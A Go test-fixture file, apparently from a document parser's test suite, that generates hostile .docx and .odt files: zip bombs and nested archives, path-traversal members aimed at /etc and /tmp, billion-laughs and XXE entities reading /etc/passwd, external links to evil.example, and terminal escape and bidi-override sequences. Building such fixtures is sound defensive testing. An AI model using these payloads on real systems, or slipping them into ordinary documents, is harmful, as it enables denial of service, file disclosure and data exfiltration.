package hostile

import (
	"fmt"
	"slices"
	"strings"
)

// wordDocument is the archive of a Word document with this body, and more members.
func wordDocument(body string, more ...member) []byte {
	return zipped(append(wordParts(file("word/document.xml", wordStart+body+wordEnd)), more...)...)
}

const (
	declaration = `<?xml version="1.0" encoding="UTF-8"?>`
	wordStart   = declaration + `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>`
	wordEnd     = `</w:body></w:document>`
	wordBefore  = `<w:p><w:r><w:t>` + Before + `</w:t></w:r></w:p>`
)

// wordParts is what a Word document consists of, around the member that is its text.
func wordParts(text member) []member {
	const types = declaration + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	const relations = declaration + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`
	return []member{file("[Content_Types].xml", types), file("_rels/.rels", relations), text}
}

// words are Word documents.
func words() []Document { return slices.Concat(wordArchives(), wordTexts()) }

// wordArchives are Word documents with something wrong in the archive.
func wordArchives() []Document {
	ordinary := func() []byte { return wordDocument(strings.Repeat(wordBefore, 500)) }
	return append(cut("whole.docx", ordinary), []Document{
		{"a paragraph of 1 GB.docx", false, func() []byte {
			m := member{name: "word/document.xml", before: wordStart + wordBefore + `<w:p><w:r><w:t>`, again: strings.Repeat("word ", 200_000), times: 1000, behind: `</w:t></w:r></w:p>` + wordEnd}
			return zipped(wordParts(m)...)
		}},
		{"10 million paragraphs.docx", false, func() []byte {
			m := member{name: "word/document.xml", before: wordStart + wordBefore, again: strings.Repeat(`<w:p/>`, 100_000), times: 100, behind: wordEnd}
			return zipped(wordParts(m)...)
		}},
		{"100,000 notes.docx", true, bytesOf(func() string {
			return string(wordDocument(wordBefore + varied(100_000, `<w:p><w:r><w:t>%s</w:t></w:r><w:r><w:footnoteReference w:id="7"/></w:r><w:r><w:commentReference w:id="7"/></w:r></w:p>`)))
		})},
		{"a picture of 4 GB.docx", true, func() []byte {
			return wordDocument(wordBefore, member{name: "word/media/image1.png", again: strings.Repeat("\x00", 1<<20), times: 4000})
		}},
		{"an archive in an archive.docx", true, func() []byte {
			inner := zipped(member{name: "a", again: strings.Repeat("\x00", 1<<20), times: 1000})
			for range 8 {
				inner = zipped(file("a.zip", string(inner)), file("b.zip", string(inner)))
			}
			return wordDocument(wordBefore, file("word/embeddings/oleObject1.bin", string(inner)))
		}},
		{"overlapping members.docx", false, func() []byte {
			members := []member{{name: "word/media/0", again: strings.Repeat("\x00", 1<<20), times: 1000}}
			return zipped(append(append(members, many(60_000, "word/media/%d", 1)...), wordParts(file("word/document.xml", wordStart+wordBefore+wordEnd))...)...)
		}},
		{"claims to be small.docx", false, func() []byte {
			m := member{name: "word/document.xml", before: wordStart + wordBefore, again: strings.Repeat(`<w:p><w:r><w:t>x</w:t></w:r></w:p>`, 30_000), times: 200, behind: wordEnd, claims: 400}
			return zipped(wordParts(m)...)
		}},
		{"claims to be large.docx", false, func() []byte {
			return zipped(wordParts(member{name: "word/document.xml", before: wordStart + wordBefore + wordEnd, claims: 0xffff_fff0})...)
		}},
		{"encrypted members.docx", false, func() []byte {
			return zipped(wordParts(member{name: "word/document.xml", before: wordStart + wordBefore + wordEnd, encrypted: true})...)
		}},
		{"a way out.docx", true, func() []byte {
			return wordDocument(wordBefore, file("../../../../tmp/lede-was-here", "x"), file("/etc/lede-was-here", "x"), file(`..\..\lede-was-here`, "x"))
		}},
	}...)
}

// wordTexts are Word documents with something wrong in the text.
func wordTexts() []Document {
	return []Document{
		{"entities.docx", false, func() []byte {
			return zipped(wordParts(file("word/document.xml", laughs()+strings.TrimPrefix(wordStart, declaration)+wordBefore+`<w:p><w:r><w:t>&j;</w:t></w:r></w:p>`+wordEnd))...)
		}},
		{"deep.docx", true, bytesOf(func() string {
			return string(wordDocument(wordBefore + varied(100_000, `<w:tbl w:x="%s"><w:tr><w:tc>`) + `<w:p/>` + strings.Repeat(`</w:tc></w:tr></w:tbl>`, 100_000)))
		})},
		{"deeper than deep.docx", true, bytesOf(func() string {
			return string(wordDocument(wordBefore + varied(500_000, `<w:x a="%s">`) + strings.Repeat(`</w:x>`, 500_000)))
		})},
		{"a million columns.docx", false, bytesOf(func() string {
			return string(wordDocument(wordBefore + `<w:tbl><w:tr>` + varied(100_000, `<w:tc w:x="%s"><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc>`) + `</w:tr></w:tbl>`))
		})},
		{"styles in a circle.docx", true, func() []byte {
			return wordDocument(`<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>`+Before+`</w:t></w:r></w:p>`,
				file("word/styles.xml", declaration+`<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`),
				file("word/_rels/document.xml.rels", declaration+`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`))
		}},
		{"sequences.docx", true, func() []byte {
			coded := "&#27;]0;owned&#7;" + strings.ReplaceAll(Sequence, "\x1b", "&#x1b;")
			return wordDocument(wordBefore + `<w:p><w:hyperlink w:anchor="` + "&#x202e;" + `"><w:r><w:t>` + "\u009b31m\u202egnp\u200b" + `</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:t>` + coded + `</w:t></w:r></w:p>`)
		}},
	}
}

// laughs is a document type with entities that grow tenfold, and one that is a file.
func laughs() string {
	var b strings.Builder
	b.WriteString(declaration + `<!DOCTYPE x [<!ENTITY a "ha ha ha ha ha "><!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "https://evil.example/x">`)
	for c := 'b'; c <= 'j'; c++ {
		fmt.Fprintf(&b, `<!ENTITY %c "%s">`, c, strings.Repeat(fmt.Sprintf("&%c;", c-1), 10))
	}
	b.WriteString(`]>`)
	return b.String()
}

// openText is an OpenDocument text with this body.
func openText(before, body string) []byte {
	const start = `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:body><office:text>`
	const end = `</office:text></office:body></office:document-content>`
	const manifest = declaration + `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`
	return zipped(member{name: "mimetype", before: "application/vnd.oasis.opendocument.text", stored: true},
		file("META-INF/manifest.xml", manifest), file("content.xml", before+start+body+end))
}

// texts are OpenDocument texts.
func texts() []Document {
	const before = `<text:p>` + Before + `</text:p>`
	return append(cut("whole.odt", func() []byte { return openText(declaration, strings.Repeat(before, 500)) }), []Document{
		{"entities.odt", false, func() []byte { return openText(laughs(), before+`<text:p>&j;&file;</text:p>`) }},
		{"deep lists.odt", true, bytesOf(func() string {
			return string(openText(declaration, before+varied(100_000, `<text:list text:x="%s"><text:list-item>`)+`<text:p>x</text:p>`+strings.Repeat(`</text:list-item></text:list>`, 100_000)))
		})},
		{"repeated columns and rows.odt", true, func() []byte {
			cell := `<table:table-cell table:number-columns-repeated="1000000"><text:p>x</text:p></table:table-cell>`
			return openText(declaration, before+`<table:table><table:table-row table:number-rows-repeated="1000000">`+cell+`</table:table-row></table:table>`)
		}},
		{"repeated blanks.odt", true, func() []byte {
			return openText(declaration, before+`<text:p>a<text:s text:c="2000000000"/>b<text:s text:c="-1"/></text:p>`)
		}},
		{"notes without end.odt", true, func() []byte {
			return openText(declaration, before+varied(50_000, `<text:p>%s<text:note text:id="n" text:note-class="footnote"><text:note-citation>1</text:note-citation><text:note-body><text:p>b</text:p></text:note-body></text:note></text:p>`))
		}},
		{"linked sections and pictures.odt", true, func() []byte {
			return openText(declaration, before+`<text:section text:name="a"><text:section-source xlink:href="file:///etc/passwd"/></text:section><draw:frame><draw:image xlink:href="https://evil.example/x.png"/></draw:frame>`)
		}},
		{"a text of 1 GB.odt", false, func() []byte {
			return zipped(member{name: "mimetype", before: "application/vnd.oasis.opendocument.text", stored: true},
				member{name: "content.xml", again: strings.Repeat("<a>", 300_000), times: 1000})
		}},
	}...)
}
